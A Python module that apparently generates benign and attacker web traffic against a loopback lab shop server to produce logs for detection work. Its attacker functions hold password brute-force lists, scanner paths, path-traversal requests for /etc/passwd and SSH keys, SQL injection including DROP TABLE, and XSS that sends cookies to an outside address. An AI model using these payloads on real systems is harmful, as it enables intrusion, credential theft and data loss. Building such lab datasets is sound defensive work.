"""What happens on the web server: visitors who mean well, attackers who do not. One function per address."""

import base64
import http.client
import random
import time
import urllib.parse

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36"
)
SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1"
)
SITE = "http://shop.example"


class Client:
    """One HTTP client on a loopback address of its own, with a random stream of its own for its pauses."""

    def __init__(self, lab, address, agent):
        self.lab, self.address, self.agent = lab, address, agent
        self.cookie = None
        self.random = random.Random(f"{lab.seed}/{address}/{agent}")

    def send(self, method, target, *, body=None, referrer=None, headers=None):
        """One request on a connection of its own; targets go out exactly as written, encoded or not."""
        connection = http.client.HTTPConnection(
            "127.0.0.1", self.lab.nginx.port, timeout=10, source_address=(self.address, 0)
        )
        try:
            connection.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
            connection.putheader("Host", "shop.example")
            if self.agent:
                connection.putheader("User-Agent", self.agent)
            if referrer:
                connection.putheader("Referer", referrer)
            if self.cookie:
                connection.putheader("Cookie", self.cookie)
            for name, value in (headers or {}).items():
                connection.putheader(name, value)
            content = body.encode() if isinstance(body, str) else body
            if content is not None:
                connection.putheader("Content-Length", str(len(content)))
            connection.endheaders(content)
            response = connection.getresponse()
            response.read()
            if cookie := response.getheader("Set-Cookie"):
                self.cookie = cookie.partition(";")[0]
            return response.status
        finally:
            connection.close()

    def get(self, target, **more):
        return self.send("GET", target, **more)

    def login(self, user, password):
        form = urllib.parse.urlencode({"user": user, "password": password})
        kind = {"Content-Type": "application/x-www-form-urlencoded"}
        return self.send("POST", "/login", body=form, referrer=f"{SITE}/login", headers=kind)

    def pause(self, least, most):
        time.sleep(self.random.uniform(least, most))

    def page(self, target, assets, referrer=None):
        self.get(target, referrer=referrer)
        for asset in assets:
            self.get(asset, referrer=SITE + target)


ASSETS = ["/css/site.css", "/js/site.js", "/img/logo.svg", "/img/hero.jpg", "/img/p1.jpg", "/img/p2.jpg", "/img/p3.jpg"]


# Benign -------------------------------------------------------------------------------------------------------------

def browse(lab, address):
    client = Client(lab, address, FIREFOX)
    client.page("/", ASSETS + ["/favicon.ico"], "https://www.google.com/")
    while lab.running():
        client.pause(1.5, 4)
        target = client.random.choice(["/", "/products.html", "/about.html"])
        client.page(target, ASSETS[: client.random.randint(0, 4)], f"{SITE}/")


def office(lab, address):
    """Three colleagues behind one address: different browsers, one of whom mistypes her password."""
    people = [Client(lab, address, agent) for agent in (FIREFOX, CHROME, SAFARI)]
    for turn in range(9):
        if not lab.running():
            return
        client = people[turn % 3]
        client.page("/products.html", ASSETS[:5], f"{SITE}/")
        if turn == 4:
            client.login("berta", "Corect-Horse")
            client.pause(0.8, 1.6)
            client.login("berta", lab.web_accounts["berta"])
            client.get("/account", referrer=f"{SITE}/login")
        client.pause(1, 3)


def mistype(lab, address):
    client = Client(lab, address, CHROME)
    client.page("/", ASSETS)
    client.pause(1, 2)
    client.get("/login", referrer=f"{SITE}/")
    client.login("anna", "summer-rain-4")
    client.pause(2, 3)
    client.login("anna", lab.web_accounts["anna"])
    client.page("/account", ["/css/site.css", "/js/site.js"], f"{SITE}/login")
    while lab.running():
        client.get("/api/orders", referrer=f"{SITE}/account")
        client.pause(4, 6)


def health_check(lab, address):
    client = Client(lab, address, "kube-probe/1.29")
    while lab.running():
        client.get("/healthz")
        time.sleep(2)


def sync(lab, address):
    """A file-sync client: it waits for the challenge before it sends credentials, then works through many files."""
    client = Client(lab, address, "Mozilla/5.0 (Linux) mirall/3.13.0 (Nextcloud)")
    pair = f"carla:{lab.web_accounts['carla']}"
    signed = {"Authorization": "Basic " + base64.b64encode(pair.encode()).decode()}
    for batch in range(3):
        client.send("PROPFIND", "/dav/carla/", headers={"Depth": "0"})
        client.send("PROPFIND", "/dav/carla/", headers={**signed, "Depth": "1"})
        client.send("MKCOL", f"/dav/carla/photos-{batch}/", headers=signed)
        for number in range(14):
            name = f"/dav/carla/photos-{batch}/IMG_{2100 + number}.jpg"
            # Asks whether the file is there (404), stores it, reads its properties back: what such clients do.
            client.send("HEAD", name, headers=signed)
            client.send("PUT", name, body=b"x" * 512, headers=signed)
            client.send("PROPFIND", name, headers={**signed, "Depth": "0"})
        client.pause(3, 7)


def single_page_app(lab, address):
    """Sixty API calls in two seconds after start; the expired session answers 401 a few times first."""
    client = Client(lab, address, CHROME)
    client.page("/app/index.html", ["/app/main.8f2c1.js", "/app/vendor.11ab0.js"])
    client.cookie = "session=expired"
    for name in ("me", "cart", "messages"):
        client.get(f"/api/{name}", referrer=f"{SITE}/app/index.html")
    client.login("dora", lab.web_accounts["dora"])
    for number in range(60):
        client.get(f"/api/items/{1000 + number}?fields=name,price&order=asc", referrer=f"{SITE}/app/index.html")


def broken_image(lab, address):
    client = Client(lab, address, SAFARI)
    while lab.running():
        client.page("/about.html", ["/css/site.css", "/img/team-2024.jpg"], f"{SITE}/")
        client.get("/apple-touch-icon.png")
        client.pause(2, 4)


def searcher(lab, address):
    """Words that look like attacks to a careless rule: a search box takes what people type."""
    client = Client(lab, address, FIREFOX)
    for words in (
        "select a gift from our union jack collection",
        "how to drop a table lamp safely",
        "where can I insert the coin; delete old order",
        "O'Neill surf shirt 50% off",
        "C++ <vector> tutorial book",
        "script writing for beginners",
        "https://shop.example/products.html?id=3",
        "../ what does dot dot slash mean",
        "2026-03-01 -- 2026-03-31",
    ):
        client.get("/search?q=" + urllib.parse.quote_plus(words), referrer=f"{SITE}/")
        client.pause(1, 3)


def crawler(lab, address):
    client = Client(lab, address, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)")
    for target in (
        "/robots.txt", "/sitemap.xml", "/", "/about.html", "/products.html", "/old-page.html", "/img/hero.jpg", "/news/2019/",
    ):
        client.get(target)
        client.pause(1.5, 3)


# Attackers ----------------------------------------------------------------------------------------------------------

PASSWORDS = """123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon 123123 baseball abc123 football
monkey letmein shadow master 666666 qwertyuiop 123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212
000000 qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter buster""".split()

NAMES = """admin root test guest info adm mysql user administrator oracle ftp pi puppet ansible ec2-user vagrant azureuser
support webmaster backup postgres jenkins git demo sales office contact manager service operator""".split()


def login_brute_force(lab, address):
    client = Client(lab, address, "python-requests/2.31.0")
    for password in PASSWORDS:
        if not lab.running():
            return
        client.login("anna", password)
        client.pause(0.3, 0.9)


def account_enumeration(lab, address):
    client = Client(lab, address, CHROME)
    for name in NAMES:
        if not lab.running():
            return
        client.login(f"{name}@shop.example", "Winter2026!")
        client.pause(0.6, 1.3)


SCAN_PATHS = """/admin/ /administrator/ /phpmyadmin/ /pma/ /wp-login.php /wp-admin/ /xmlrpc.php /cgi-bin/test.cgi /manager/html
/server-status /solr/ /jenkins/ /backup.zip /backup.sql /test.php /info.php /phpinfo.php /shell.php /cmd.php /config.php.bak
/old/ /dev/ /console/ /actuator/env /actuator/health /api-docs /swagger.json /webdav/
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /HNAP1 /boaform/admin/formLogin /owa/auth/logon.aspx
/autodiscover/autodiscover.xml /struts2-showcase/ /hudson/ /invoker/ /jmx-console/
/axis2/ /crossdomain.xml /trace.axd /elmah.axd /web.config /cgi-bin/luci /remote/login
/sdk /nmaplowercheck1700000000 /evox/about""".split()


def scanner(lab, address):
    client = Client(lab, address, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)")
    for target in SCAN_PATHS:
        if not lab.running():
            return
        client.get(target)
        client.pause(0.1, 0.4)


def quiet_scanner(lab, address):
    """The same with a browser's user agent and slower: only the many different 404 give it away."""
    client = Client(lab, address, CHROME)
    words = """invoices orders2 staff internal intranet private uploads2 export import tmp2 cache old-site beta staging
    stage qa uat sandbox portal vpn mail2 crm erp hr payroll finance ledger archive files2 docs2 wiki""".split()
    for word in words:
        if not lab.running():
            return
        client.get(f"/{word}/")
        client.pause(0.5, 1.0)


def path_traversal(lab, address):
    client = Client(lab, address, "curl/8.5.0")
    for target in (
        "/../../../../etc/passwd",
        "/img/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/img/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
        "/search?q=../../../../../../etc/passwd",
        "/api/file?name=..%252f..%252f..%252fetc%252fpasswd",
        "/css/....//....//....//etc/hosts",
        "/search?page=php://filter/convert.base64-encode/resource=index",
        "/api/download?f=/proc/self/environ",
        "/js/..%c0%af..%c0%afetc/passwd",
        "/img/..%5c..%5c..%5cwindows%5cwin.ini",
    ):
        client.get(target)
        client.pause(0.5, 2)


def sql_injection(lab, address):
    client = Client(lab, address, CHROME)
    for value in (
        "1'",
        "1' OR '1'='1' -- ",
        "1 UNION SELECT NULL,NULL,NULL-- -",
        "-1' UNION ALL SELECT table_name,2,3 FROM information_schema.tables#",
        "1 AND 1=1",
        "1 AND SLEEP(5)",
        "1'; WAITFOR DELAY '0:0:5'--",
        "1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))",
        "1/**/UnIoN/**/SeLeCt/**/username,password/**/FrOm/**/users",
        "1);DROP TABLE orders;--",
    ):
        client.get("/search?q=shirt&id=" + urllib.parse.quote(value), referrer=f"{SITE}/products.html")
        client.pause(0.5, 2)


def cross_site_scripting(lab, address):
    client = Client(lab, address, FIREFOX)
    for value in (
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(document.cookie)>",
        "<svg/onload=confirm`1`>",
        "javascript:alert(document.domain)",
        "'><body onload=fetch('//198.51.100.7/'+document.cookie)>",
        "<iframe src=javascript:alert(1)>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "<details open ontoggle=alert(1)>",
    ):
        client.get("/search?q=" + urllib.parse.quote(value), referrer=f"{SITE}/")
        client.pause(0.5, 2.5)


def sensitive_files(lab, address):
    client = Client(lab, address, "Go-http-client/1.1")
    for target in (
        "/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/.env.production", "/api/.env", "/.svn/entries",
        "/.htpasswd", "/.ssh/id_rsa", "/wp-config.php.bak", "/config/database.yml", "/.DS_Store", "/docker-compose.yml",
    ):
        client.get(target)
        client.pause(0.3, 1.5)


def campaign_web(lab, address):
    """First half of one attacker's campaign: looks for secrets, then tries passwords. The other half is on sshd."""
    client = Client(lab, address, "python-requests/2.31.0")
    for target in ("/.env", "/.git/config", "/admin/", "/phpmyadmin/"):
        client.get(target)
        client.pause(0.3, 1)
    for password in PASSWORDS[:18]:
        if not lab.running():
            return
        client.login("berta", password)
        client.pause(0.4, 1.1)
